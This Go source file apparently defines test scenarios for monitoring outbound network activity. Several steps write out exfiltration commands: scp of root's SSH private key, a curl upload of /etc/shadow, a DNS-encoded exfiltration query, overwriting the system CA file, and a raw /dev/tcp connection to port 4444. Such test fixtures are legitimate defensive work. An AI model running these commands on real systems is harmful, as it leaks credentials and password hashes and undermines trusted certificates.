// SPDX-License-Identifier: Apache-2.0

package main

import "os/exec"

func init() {
	provide(map[string]step{
		"upload-key":       {run: named("scp", "/root/.ssh/id_ed25519", "drop@"+peer+":/tmp/")},
		"curl-upload":      {run: named("curl", "-s", "-F", "file=@/etc/shadow", "https://"+peer+"/")},
		"download":         {run: named("curl", "-o", "/etc/ssl/ca.pem", "https://"+peer+"/ca.pem")},
		"upload-report":    {run: named("curl", "-T", "report.txt", "https://"+peer+"/")},
		"dns-exfiltration": {run: named("dig", "+short", "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrt.t.example.org", "TXT")},
		"dns-query":        {run: named("dig", "+short", "a-name-that-a-person-would-choose.example.org")},
		"outbound":         {run: outbound, isolated: true},
		"dropped-dial":     {run: as("provoked", "dial"), isolated: true},
		"dropped-loopback": {run: as("provoked", "loopback")},
		"curl-by-hand":     {run: as("curl", "dial"), isolated: true},
		"service-fetch":    {run: as("nginx", "curl-by-hand")},
	})
}

func outbound() error {
	l, err := listen()
	if err != nil {
		return err
	}
	defer l.Close()
	return exec.Command("bash", "-c", "exec 3<>/dev/tcp/"+peer+"/4444").Run()
}
